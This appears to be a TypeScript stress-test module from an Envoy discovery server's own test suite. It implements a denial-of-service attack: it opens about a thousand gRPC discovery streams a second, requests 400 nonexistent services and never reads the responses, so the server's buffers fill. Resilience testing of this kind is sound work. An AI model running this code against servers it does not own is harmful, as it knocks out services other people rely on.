import { setTimeout as delay } from 'node:timers/promises';
import { TypeUrl } from '../../../../src/envoy/type-urls.js';
import type { Attack } from '../attack.js';
import { connectTo, Endings, nodeId, openAds, requestFrame } from '../discovery-call.js';

const PER_SECOND = 1_000;
const DURATION_MS = 8_000;
const TICK_MS = 50;
/** Missing names, whose response is larger than the buffer of a socket. */
const NAMES = Array.from({ length: 400 }, (_, index) => `outbound|80||no-such-service-${index}.attackers.example.com`);

/** Streams that ask for a response and never read it: their windows stay closed. */
export const attack: Attack = {
  title: `${PER_SECOND} streams a second that do not read their responses`,
  durationMs: DURATION_MS,
  async run(target, scale, signal) {
    const endings = new Endings();
    const request = requestFrame({ node: nodeId('unread'), typeUrl: TypeUrl.endpoint, names: NAMES });
    let sessions = connectAll();
    function connectAll() {
      return (['plaintext', 'secured'] as const).map((listener) => connectTo(target, listener));
    }
    const untilMs = performance.now() + DURATION_MS;
    let opened = 0;
    let connections = 2;
    while (performance.now() < untilMs && !signal.aborted) {
      for (let count = 0; count < (PER_SECOND * scale * TICK_MS) / 1_000; count++) {
        if (sessions.some(({ destroyed }) => destroyed) || opened % PER_SECOND === PER_SECOND - 1) {
          sessions = connectAll();
          connections += 2;
        }
        const session = sessions[opened % sessions.length];
        if (session === undefined) continue;
        const call = openAds(session, endings);
        call.pause();
        call.write(request);
        opened++;
      }
      await delay(TICK_MS, undefined, { signal }).catch(() => undefined);
    }
    return `${opened} streams on ${connections} connections; ${endings}`;
  },
};
